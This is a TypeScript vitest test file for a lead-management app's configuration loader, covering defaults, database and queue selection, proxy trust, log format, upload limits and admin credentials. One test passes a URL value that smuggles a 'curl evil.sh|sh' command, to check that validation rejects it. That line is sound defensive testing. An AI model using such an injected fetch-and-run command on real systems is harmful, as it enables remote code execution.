import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfigError, forLocalFiles, loadConfig } from './config.js';

describe('loadConfig', () => {
  it('defaults to the embedded SQLite file and 127.0.0.1:3000', () => {
    const config = loadConfig({});
    expect(config).toMatchObject({
      store: 'sqlite',
      databaseUrl: 'sqlite:./data/leadport.db',
      host: '127.0.0.1',
      port: 3000,
      maxUploadBytes: 512 * 1024 * 1024,
    });
    expect(config.sqlitePath).toBe(path.resolve('data/leadport.db'));
    expect(Object.isFrozen(config)).toBe(true);
  });
  it('queues jobs in pg-boss on PostgreSQL and in the jobs table on SQLite, unless told otherwise', () => {
    expect(loadConfig({ DATABASE_URL: 'postgres://u@db/leads' }).queue).toBe('pg-boss');
    expect(loadConfig({ DATABASE_URL: 'postgres://u@db/leads', LEADPORT_QUEUE: 'embedded' }).queue).toBe('embedded');
    expect(loadConfig({}).queue).toBe('embedded');
  });
  it('trusts the reverse proxies it is told of, and none by default', () => {
    expect(loadConfig({}).trustProxy).toBe(false);
    expect(loadConfig({ LEADPORT_TRUST_PROXY: 'true' }).trustProxy).toBe(true);
    expect(loadConfig({ LEADPORT_TRUST_PROXY: '10.0.0.5, 10.1.0.0/16' }).trustProxy).toEqual([
      '10.0.0.5',
      '10.1.0.0/16',
    ]);
    expect(() => loadConfig({ LEADPORT_TRUST_PROXY: 'yes please' })).toThrow(ConfigError);
  });
  it('reads PostgreSQL URLs and the other settings', () => {
    const config = loadConfig({
      DATABASE_URL: 'postgres://u@db:5432/leads',
      PORT: '8080',
      HOST: '0.0.0.0',
      LEADPORT_MAX_UPLOAD_MB: '10',
    });
    expect(config).toMatchObject({
      store: 'postgres',
      sqlitePath: undefined,
      port: 8080,
      host: '0.0.0.0',
      maxUploadBytes: 10 * 1024 * 1024,
    });
  });
  it('reports every problem at once', () => {
    try {
      loadConfig({
        DATABASE_URL: 'mysql://x',
        PORT: 'eighty',
        LEADPORT_ADMIN_EMAIL: 'not-an-email',
        LEADPORT_ADMIN_PASSWORD: 'short',
      });
      throw new Error('expected a ConfigError');
    } catch (error) {
      expect(error).toBeInstanceOf(ConfigError);
      const problems = (error as ConfigError).problems;
      expect(problems.map((p) => p.split(':')[0]).sort()).toEqual([
        'DATABASE_URL',
        'LEADPORT_ADMIN_EMAIL',
        'LEADPORT_ADMIN_PASSWORD',
        'PORT',
      ]);
    }
  });
  it('takes LEADPORT_PUBLIC_URL without its trailing slash, and refuses one a shell or a page could be fooled by', () => {
    expect(loadConfig({ LEADPORT_PUBLIC_URL: 'https://leads.example.com/' }).publicUrl).toBe(
      'https://leads.example.com',
    );
    expect(loadConfig({}).publicUrl).toBeUndefined();
    expect(() => loadConfig({ LEADPORT_PUBLIC_URL: "https://x.example'; curl evil.sh|sh;'" })).toThrow(
      'LEADPORT_PUBLIC_URL',
    );
    expect(() => loadConfig({ LEADPORT_PUBLIC_URL: 'ftp://x.example' })).toThrow('LEADPORT_PUBLIC_URL');
  });
  it('logs pretty lines on a terminal and JSON otherwise, unless LOG_FORMAT says which', () => {
    expect(loadConfig({}, true).logFormat).toBe('pretty');
    expect(loadConfig({}, false).logFormat).toBe('json');
    expect(loadConfig({ LOG_FORMAT: 'json' }, true).logFormat).toBe('json');
    expect(loadConfig({ LOG_FORMAT: 'pretty' }, false).logFormat).toBe('pretty');
    expect(() => loadConfig({ LOG_FORMAT: 'xml' })).toThrow('LOG_FORMAT');
  });
  it('lifts the upload limit for local files only', () => {
    const config = loadConfig({ LEADPORT_MAX_UPLOAD_MB: '1' });
    const local = forLocalFiles(config);
    expect(config.maxUploadBytes).toBe(1024 * 1024);
    expect(local).toMatchObject({ ...config, maxUploadBytes: Number.POSITIVE_INFINITY });
    expect(Object.isFrozen(local)).toBe(true);
  });
  it('needs the admin email and password together', () => {
    expect(() => loadConfig({ LEADPORT_ADMIN_EMAIL: 'a@b.co' })).toThrow(
      'LEADPORT_ADMIN_EMAIL and LEADPORT_ADMIN_PASSWORD must be set together',
    );
  });
});
